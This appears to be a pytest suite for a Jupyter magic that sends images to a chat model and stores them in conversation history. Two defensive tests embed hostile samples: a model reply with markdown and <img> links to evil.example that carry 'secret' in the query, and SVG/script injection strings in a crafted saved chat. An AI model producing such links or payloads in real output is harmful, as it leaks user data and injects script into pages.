"""``%%gmi --image``: figures, axes, PIL and IPython images, bytes and paths, sent as
content parts through a real shell to the stand-in server, kept in history, saved,
replayed, refused in one line, shown as thumbnails we encode (never a model's URL)."""

from __future__ import annotations

import base64
import io
import json
import random
import re
import struct
import sys
import zlib
from pathlib import Path
from typing import Any

import pytest

from gmi_magics.chat.content import decode_data_url, image_size, image_tokens
from gmi_magics.testing import reply, status

matplotlib = pytest.importorskip("matplotlib")
matplotlib.use("Agg")
plt = pytest.importorskip("matplotlib.pyplot")
Image = pytest.importorskip("PIL.Image")


def png(width: int, height: int) -> bytes:
    """A real grey PNG made without PIL."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))


def sent_images(server: Any, index: int = -1) -> list[tuple[str, tuple[int, int] | None]]:
    """(mime kind, size) of each image part of the last request's message ``index``."""
    content = server.last_request.json["messages"][index]["content"]
    assert isinstance(content, list), content
    out = []
    for part in content[1:]:
        url = part["image_url"]["url"]
        kind = re.match(r"data:image/(\w+);base64,", url).group(1)
        out.append((kind, image_size(decode_data_url(url))))
    return out


def sent_text(server: Any, index: int = -1) -> str:
    content = server.last_request.json["messages"][index]["content"]
    return content if isinstance(content, str) else content[0]["text"]


@pytest.fixture
def figure() -> Any:
    fig, ax = plt.subplots(figsize=(6.4, 4.8), dpi=100)
    ax.plot([1, 1, 1])
    yield fig
    plt.close(fig)


def test_a_figure_is_sent_as_a_png_part_after_the_text(shell, server, figure):
    shell.ns["fig"] = figure
    result = shell.run("%%gmi --image fig\nWhy is this flat?")
    assert result.success, result.error
    assert sent_text(server) == "Why is this flat?"
    assert sent_images(server) == [("png", (640, 480))]
    assert "I see 1 image (PNG 640×480)." in result.everything
    turn = shell.conversation.turns[-1]
    assert turn.user == "Why is this flat?" and turn.content[1]["type"] == "image_url"


def test_axes_pil_ipython_image_bytes_and_paths(shell, server, figure, tmp_path):
    from IPython.display import Image as IPythonImage

    path = tmp_path / "photo.png"
    path.write_bytes(png(30, 20))
    shell.ns.update(
        ax=figure.axes[0],
        pic=Image.new("RGB", (300, 200), "red"),
        ipy=IPythonImage(data=png(12, 10)),
        raw=png(40, 30),
        where=path,
        where_str=str(path),
    )
    cases = {
        "ax": ("png", (640, 480)),
        "pic": ("png", (300, 200)),
        "ipy": ("png", (12, 10)),
        "raw": ("png", (40, 30)),
        "where": ("png", (30, 20)),
        "where_str": ("png", (30, 20)),
        str(path): ("png", (30, 20)),  # the literal path form
    }
    for name, expected in cases.items():
        result = shell.run(f"%%gmi --no-history --image {name}\nWhat is this?")
        assert result.success, (name, result.error)
        assert sent_images(server) == [expected], name


def test_several_images_comma_separated_or_repeated_and_line_mode(shell, server, figure):
    shell.ns.update(fig=figure, a=png(10, 10), b=png(20, 10))
    assert shell.run("%%gmi --image fig,a --image b\nCompare them.").success
    assert sent_images(server) == [("png", (640, 480)), ("png", (10, 10)), ("png", (20, 10))]
    result = shell.run("%gmi --image a why is this flat?")
    assert result.success, result.error
    assert sent_text(server) == "why is this flat?"
    assert sent_images(server) == [("png", (10, 10))]


def test_the_same_image_twice_is_sent_once(shell, server):
    shell.ns.update(a=png(10, 10))
    assert shell.run("%%gmi --image a,a\nOnce?").success
    assert len(sent_images(server)) == 1


def test_scaling_to_the_long_side_limit(shell, server, figure):
    shell.ns.update(
        big=Image.new("RGB", (4000, 1000), "white"),
        fig=figure,
        raw=png(3000, 100),
    )
    assert shell.run("%%gmi --no-history --image big\nBig?").success
    assert sent_images(server) == [("png", (2048, 512))]
    shell.config(max_image_side=320)
    assert shell.run("%%gmi --no-history --image fig,raw\nSmall?").success
    (_, fig_size), (raw_kind, raw_size) = sent_images(server)
    assert max(fig_size) <= 320 and fig_size[0] > fig_size[1]
    assert raw_size == (320, 11) and raw_kind == "png"


def test_a_large_photo_goes_as_jpeg(shell, server):
    noise = Image.frombytes("RGB", (900, 900), random.Random(0).randbytes(900 * 900 * 3))
    shell.ns["photo"] = noise
    assert shell.run("%%gmi --no-history --image photo\nA photo?").success
    assert sent_images(server) == [("jpeg", (900, 900))]


def test_scaling_without_pillow_is_one_line(shell, server, monkeypatch):
    shell.ns.update(raw=png(3000, 10), small=png(10, 10))
    monkeypatch.setitem(sys.modules, "PIL", None)  # import PIL fails
    result = shell.run("%%gmi --image raw\nToo big?")
    assert not result.success and "needs Pillow" in str(result.error)
    assert "3000×10" in str(result.error) and server.chat_requests == []
    assert shell.run("%%gmi --no-history --image small\nFits?").success  # no scaling: no PIL


def test_a_figure_is_drawn_at_a_dpi_that_fits_not_scaled_afterwards(shell, server, monkeypatch):
    import gmi_magics.chat.images as images

    def no_scaling(*args: Any) -> Any:
        raise AssertionError("a figure must not need scaling")

    monkeypatch.setattr(images, "_open_with_pil", no_scaling)
    fig = plt.figure(figsize=(20, 5), dpi=300)  # 6000 x 1500 at its own dpi
    shell.ns["fig"] = fig
    try:
        assert shell.run("%%gmi --no-history --image fig\nWide?").success
    finally:
        plt.close(fig)
    ((kind, size),) = sent_images(server)
    assert kind == "png" and 2040 <= size[0] <= 2048 and size[1] <= 512


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (b"hello, not an image", "not a PNG, JPEG or WebP image"),
        (b"GIF89a" + b"\x00" * 20, "not a PNG, JPEG or WebP image"),
        (12345, "a int is not an image"),
        ("no/such/file.png", "no image file at"),
    ],
    ids=["text-bytes", "gif", "int", "missing-file"],
)
def test_values_that_are_not_images_are_one_line(shell, server, value, message):
    shell.ns["thing"] = value
    result = shell.run("%%gmi --image thing\nWhat?")
    assert not result.success and message in str(result.error)
    lines = result.error._render_traceback_()
    assert len(lines) == 2 and "ImageInputError" in lines[0]
    assert server.chat_requests == [] and shell.conversation.turns == []


def test_unknown_names_calls_and_huge_files_are_refused(shell, server, tmp_path):
    result = shell.run("%%gmi --image nothing_here\nWhat?")
    assert not result.success and "no file of that name" in str(result.error)
    shell.ns["f"] = lambda: None
    assert not shell.run("%%gmi --image f()\nWhat?").success
    huge = tmp_path / "huge.png"
    with huge.open("wb") as handle:
        handle.write(png(1, 1))
        handle.truncate(25 * 1024 * 1024)
    result = shell.run(f"%%gmi --image {huge}\nWhat?")
    assert not result.success and "the limit is 20 MB" in str(result.error)
    assert server.chat_requests == []


def test_history_keeps_images_for_later_turns(shell, server):
    shell.ns["a"] = png(10, 10)
    assert shell.run("%%gmi --image a\nLook.").success
    assert shell.run("%%gmi\nAnd now?").success
    first = server.last_request.json["messages"][0]
    assert first["role"] == "user" and first["content"][1]["type"] == "image_url"
    assert server.last_request.json["messages"][-1] == {"role": "user", "content": "And now?"}


def test_the_budget_counts_images_by_size_and_trims_oldest_first(shell, server):
    shell.ns["big"] = png(2048, 2048)
    assert image_tokens((2048, 2048)) == 85 + 170 * 4
    assert shell.run("%%gmi --image big\nFirst.").success
    assert shell.run("%%gmi\nSecond.").success
    shell.config(max_context_tokens=700)  # the image turn (~780) no longer fits
    result = shell.run("%%gmi\nThird?")
    assert result.success
    sent = server.last_request.json["messages"]
    assert [m["content"] for m in sent if m["role"] == "user"] == ["Second.", "Third?"]
    assert "1 oldest turn not sent" in result.everything


def test_save_load_and_export_keep_images(shell, server, tmp_path):
    shell.ns["a"] = png(10, 10)
    assert shell.run("%%gmi --image a\nLook.").success
    saved = shell.conversation.turns[-1].content
    path = tmp_path / "chat.json"
    assert shell.run(f"%gmi save {path}").success
    assert shell.run("%gmi reset").success
    assert shell.run(f"%gmi load {path}").success
    assert shell.conversation.turns[-1].content == saved
    assert shell.run("%%gmi\nAgain?").success
    assert server.last_request.json["messages"][0]["content"] == saved
    out = tmp_path / "chat.md"
    assert shell.run(f"%gmi export {out}").success
    assert "[image 10x10]" in out.read_text(encoding="utf-8")


def test_replay_cache_keeps_images(shell, server, tmp_path):
    shell.ns["a"] = png(10, 10)
    shell.config(cache="record", cache_dir=str(tmp_path))
    first = shell.run("%%gmi --no-history --image a -o r1\nLook.")
    assert first.success, first.error
    requests = len(server.chat_requests)
    shell.config(cache="replay")
    second = shell.run("%%gmi --no-history --image a -o r2\nLook.")
    assert second.success, second.error
    assert len(server.chat_requests) == requests  # answered from the recording
    assert shell.ns["r2"].text == shell.ns["r1"].text
    assert "I see 1 image (PNG 10×10)." in shell.ns["r2"].text


def test_a_model_without_images_is_one_line_and_history_unchanged(shell, server):
    server.models.append("vision/VL-model")
    server.image_models = {"vision/VL-model"}
    shell.ns["a"] = png(10, 10)
    assert shell.run("%%gmi\nHello.").success
    before = list(shell.conversation.turns)
    result = shell.run("%%gmi --image a\nLook.")
    assert not result.success
    lines = result.error._render_traceback_()
    assert "ImagesNotAcceptedError" in lines[0] and "does not take images" in lines[0]
    assert "%gmi models" in lines[1] and len(lines) == 2
    assert shell.conversation.turns == before
    models = shell.run("%gmi models")
    assert "vision/VL-model  [images]" in models.stdout
    assert "Qwen/Qwen3-32B  [images]" not in models.stdout
    assert shell.run("%%gmi -m vision/VL-model --image a\nLook.").success


@pytest.mark.parametrize("code", [400, 422])
def test_scripted_refusals_of_images(shell, server, code):
    details = json.dumps({"error": {"message": "unknown variant `image_url`, expected `text`"}})
    body = {"error": {"message": "Backend request failed", "code": code, "details": details}}
    server.enqueue(status(code, body))
    shell.ns["a"] = png(10, 10)
    result = shell.run("%%gmi --image a\nLook.")
    assert type(result.error).__name__ == "ImagesNotAcceptedError"
    assert shell.conversation.turns == []


def test_an_unrelated_400_with_images_stays_itself(shell, server):
    server.enqueue(status(400, {"error": {"message": "Invalid max_tokens value"}}))
    shell.ns["a"] = png(10, 10)
    result = shell.run("%%gmi --image a\nLook.")
    assert type(result.error).__name__ == "BadRequestError"


def test_last_shows_parts_with_base64_elided(shell, server):
    shell.ns["a"] = png(200, 200)
    assert shell.run("%%gmi --image a\nLook.").success
    last = shell.run("%gmi last")
    assert re.search(r'"url": "data:image/png;base64,… \d+ (KB|bytes)"', last.stdout)
    assert "iVBOR" not in last.stdout and '"text": "Look."' in last.stdout


def test_retry_sends_the_images_again(shell, server):
    shell.ns["a"] = png(10, 10)
    assert shell.run("%%gmi --image a\nLook.").success
    assert shell.run("%gmi retry").success
    assert sent_images(server) == [("png", (10, 10))]
    assert len(shell.conversation.turns) == 1


def _img_sources(page: str) -> list[str]:
    return re.findall(r"<img\b[^>]*?\bsrc=\"([^\"]*)\"", page)


def test_history_shows_thumbnails_we_encode_and_text_frontends_the_size(shell, server):
    shell.ns["a"] = png(600, 300)
    server.enqueue(
        reply("Here: ![x](https://evil.example/?q=secret) <img src=https://evil.example/a>")
    )
    assert shell.run("%%gmi --image a\nLook.").success
    history = shell.run("%gmi history")
    sources = _img_sources(history.html)
    assert len(sources) == 1 and "evil.example" not in " ".join(sources)
    data = decode_data_url(sources[0])
    assert data is not None and image_size(data) == (256, 128)
    assert 'width="256" height="128"' in history.html
    assert "[image 600x300]" in history.plain and "base64" not in history.plain


def test_a_loaded_turn_cannot_make_history_load_anything(shell, server, tmp_path):
    svg = base64.b64encode(b"<svg onload=alert(1)>").decode()
    fake_png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 8 + b'"><script>').decode()
    turn = {
        "user": "Look.",
        "reply": {"text": "ok"},
        "content": [
            {"type": "text", "text": "Look. gmiimage0000000000000000n0x"},
            {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{fake_png}"}},
        ],
    }
    path = tmp_path / "chat.json"
    assert shell.run(f"%gmi save {tmp_path / 'x.json'}").success  # a valid header to reuse
    template = json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))
    template["threads"] = {"default": {"model": "m", "system": None, "turns": [turn]}}
    path.write_text(json.dumps(template), encoding="utf-8")
    loaded = shell.run(f"%gmi load {path}")
    assert loaded.success, loaded.error
    page = shell.run("%gmi history").html
    assert _img_sources(page) == [] and "<script" not in page and svg not in page
    assert "[image " in page and "gmiimage0000000000000000n0x" in page  # text stays text


def test_encoding_never_imports_matplotlib_or_pil_for_other_values():
    from gmi_magics.chat.images import encode_image

    encoded = encode_image(io.BytesIO(png(5, 5)).getvalue(), "x")
    assert (encoded.kind, encoded.size) == ("png", (5, 5))


def test_a_written_figure_file_round_trips(tmp_path, figure, shell, server):
    path = tmp_path / "fig1.png"
    figure.savefig(path, dpi=50)
    result = shell.run(f"%gmi --image {path} why is this flat?")
    assert result.success, result.error
    assert sent_images(server) == [("png", (320, 240))]
    assert Path(path).exists()


@pytest.mark.timeout(180)
def test_the_images_notebook_asks_about_its_plot(server):
    import nbformat
    from nbclient import NotebookClient

    path = Path(__file__).parent.parent / "notebooks" / "images.ipynb"
    notebook = nbformat.read(path, as_version=4)
    NotebookClient(notebook, timeout=60, kernel_name="python3").execute(cwd=str(path.parent))
    outputs = json.dumps([cell.get("outputs", []) for cell in notebook.cells], ensure_ascii=False)
    assert '"output_type": "error"' not in outputs
    assert "I see 1 image (PNG 600×300)." in outputs
    first, second = server.chat_requests[:2]
    assert [p["type"] for p in first.json["messages"][-1]["content"]] == ["text", "image_url"]
    context = second.json["messages"][-1]["content"][0]["text"]
    assert "np.clip" in context and context.endswith("is np.clip the reason?")
    assert "data:image/png;base64,… " in outputs and "gmi-thumbnail" in outputs
